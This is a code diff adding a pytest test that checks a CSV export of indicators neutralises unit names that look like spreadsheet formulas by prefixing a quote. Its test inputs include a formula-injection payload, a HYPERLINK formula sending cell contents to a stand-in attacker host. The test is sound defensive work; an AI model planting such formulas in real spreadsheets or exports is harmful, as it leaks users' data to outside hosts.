@@ -335,3 +335,21 @@ def test_the_menu_links_leaders_to_the_indicators(cast: Cast):
 
     assert URL in leader_page.content.decode()
     assert URL not in member_page.content.decode()
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")', "@SUM(1)", "+1+2", "-2+3"]
+)
+def test_a_unit_named_like_a_formula_is_text_in_the_csv(cast: Cast, name: str):
+    unit = OrganisationFactory.create(name=name, parent=cast.kommune)
+    response = client_for(cast.leader).get(
+        reverse("coordination:indicators-csv"), {"start": this_month(), "end": this_month()}
+    )
+
+    text = response.content.decode("utf-8").removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    cells = [row[0] for row in rows if row[0].endswith(unit.name)]
+    assert cells and all(cell == "'" + name for cell in cells)
+    # The figures beside it stay numbers for the spreadsheet.
+    assert {row[5] for row in rows[1:]} <= {"ja", "nei"}
+    assert all(row[4] == "<5" or row[4].isdigit() for row in rows[1:])
